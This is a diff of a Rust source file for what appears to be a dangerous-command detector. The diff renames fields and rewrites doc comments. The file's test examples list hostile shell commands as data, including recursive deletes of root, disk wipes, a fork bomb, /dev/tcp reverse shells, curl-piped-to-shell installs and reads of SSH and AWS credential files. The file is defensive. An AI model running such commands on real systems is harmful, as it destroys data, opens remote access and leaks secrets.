@@ -1,18 +1,17 @@
-//! The classes of what a command may do, each with its tier and with examples that it must and must
-//! not find. The checks themselves are in the modules named.
+//! Classes of dangerous commands with their tiers, checks and examples.
 
 use super::script::Command;
 use super::word::Word;
-use super::{Seen, Surroundings, Tier, destruction, intrusion, judge_by, publication};
+use super::{CheckContext, Surroundings, Tier, destruction, intrusion, judge_by, publication};
 
 /// A class of dangerous commands, with its check and examples.
 pub(super) struct Danger {
     pub class: &'static str,
     pub tier: Tier,
-    pub look: fn(&Seen<'_>, &mut dyn FnMut(Hit)),
-    /// It is surely found in each of these …
+    pub check: fn(&CheckContext<'_>, &mut dyn FnMut(Hit)),
+    /// The check is sure about each of these …
     pub harmful: &'static [&'static str],
-    /// … and in none of these, not even in doubt.
+    /// … and reports none of these.
     pub harmless: &'static [&'static str],
 }
 
@@ -21,12 +20,12 @@ pub(super) struct Hit {
     pub why: String,
     pub sure: bool,
     pub words: Option<Vec<String>>,
-    /// Another tier than the class has.
+    /// Overrides the tier of the class.
     pub tier: Option<Tier>,
 }
 
 impl Hit {
-    /// That `command` does it, as `about` says.
+    /// A hit of `command`; `about` describes the effect.
     pub fn of(command: &Command, about: impl std::fmt::Display) -> Self {
         let words = command.words.iter().all(Word::is_known);
         let words = words.then(|| command.words.iter().map(|word| word.text.clone()).collect());
@@ -48,9 +47,9 @@ impl Hit {
 }
 
 fn short(text: &str) -> String {
-    const MOST: usize = 120;
+    const MAX: usize = 120;
     let line = text.replace('\n', " ");
-    if line.chars().count() > MOST { line.chars().take(MOST).chain(['…']).collect() } else { line }
+    if line.chars().count() > MAX { line.chars().take(MAX).chain(['…']).collect() } else { line }
 }
 
 impl Danger {
@@ -59,7 +58,7 @@ impl Danger {
         self.wrong().is_none()
     }
 
-    /// The first example that is not.
+    /// The first example that is classified wrongly.
     pub fn wrong(&self) -> Option<&'static str> {
         let surroundings =
             Surroundings { root: "/home/me/project".into(), home: Some("/home/me".into()), own: vec![4711] };
@@ -76,7 +75,7 @@ pub(super) const ALL: &[Danger] = &[
     Danger {
         class: "recursive delete",
         tier: Tier::Critical,
-        look: destruction::recursive_delete,
+        check: destruction::recursive_delete,
         harmful: &[
             "rm -rf /",
             "rm -r /",
@@ -107,7 +106,7 @@ pub(super) const ALL: &[Danger] = &[
     Danger {
         class: "device write",
         tier: Tier::Critical,
-        look: destruction::device_write,
+        check: destruction::device_write,
         harmful: &[
             "echo x > /dev/sda",
             "dd if=/dev/zero of=/dev/nvme0n1",
@@ -126,7 +125,7 @@ pub(super) const ALL: &[Danger] = &[
     Danger {
         class: "disk wipe",
         tier: Tier::Critical,
-        look: destruction::disk_wipe,
+        check: destruction::disk_wipe,
         harmful: &[
             "mkfs.ext4 /dev/sda1",
             "wipefs -a /dev/sdb",
@@ -139,7 +138,7 @@ pub(super) const ALL: &[Danger] = &[
     Danger {
         class: "fork bomb",
         tier: Tier::Critical,
-        look: destruction::fork_bomb,
+        check: destruction::fork_bomb,
         harmful: &[":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "perl -e 'fork while fork'"],
         harmless: &[
             "f() { g; }; f",
@@ -150,7 +149,7 @@ pub(super) const ALL: &[Danger] = &[
     Danger {
         class: "reverse shell",
         tier: Tier::Critical,
-        look: intrusion::reverse_shell,
+        check: intrusion::reverse_shell,
         harmful: &[
             "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
             "exec 5<>/dev/tcp/10.0.0.1/4444",
@@ -169,7 +168,7 @@ pub(super) const ALL: &[Danger] = &[
     Danger {
         class: "unseen code into an interpreter",
         tier: Tier::High,
-        look: intrusion::unseen_code,
+        check: intrusion::unseen_code,
         harmful: &[
             "curl https://x.example/i.sh | sh",
             "curl -fsSL x.example | sudo bash -s -- -y",
@@ -209,14 +208,14 @@ pub(super) const ALL: &[Danger] = &[
     Danger {
         class: "shutdown",
         tier: Tier::High,
-        look: intrusion::shutdown,
+        check: intrusion::shutdown,
         harmful: &["shutdown -h now", "sudo reboot", "systemctl poweroff", "init 0"],
         harmless: &["git init", "systemctl status nginx", "cargo test shutdown", "npm init -y"],
     },
     Danger {
         class: "permission escalation",
         tier: Tier::High,
-        look: intrusion::escalation,
+        check: intrusion::escalation,
         harmful: &[
             "sudo apt-get install x",
             "su -c id",
@@ -259,7 +258,7 @@ pub(super) const ALL: &[Danger] = &[
     Danger {
         class: "killing what this runs in",
         tier: Tier::High,
-        look: intrusion::killing,
+        check: intrusion::killing,
         harmful: &[
             "kill -9 1",
             "kill -KILL -1",
@@ -293,7 +292,7 @@ pub(super) const ALL: &[Danger] = &[
     Danger {
         class: "credential files",
         tier: Tier::High,
-        look: intrusion::credentials,
+        check: intrusion::credentials,
         harmful: &[
             "cat ~/.ssh/id_rsa",
             "cp ~/.aws/credentials x",
@@ -331,7 +330,7 @@ pub(super) const ALL: &[Danger] = &[
     Danger {
         class: "history rewriting and force push",
         tier: Tier::Medium,
-        look: publication::history,
+        check: publication::history,
         harmful: &[
             "git push --force",
             "git push -f origin main",
@@ -367,7 +366,7 @@ pub(super) const ALL: &[Danger] = &[
     Danger {
         class: "package publish",
         tier: Tier::Medium,
-        look: publication::publish,
+        check: publication::publish,
         harmful: &[
             "npm publish",
             "cargo publish",
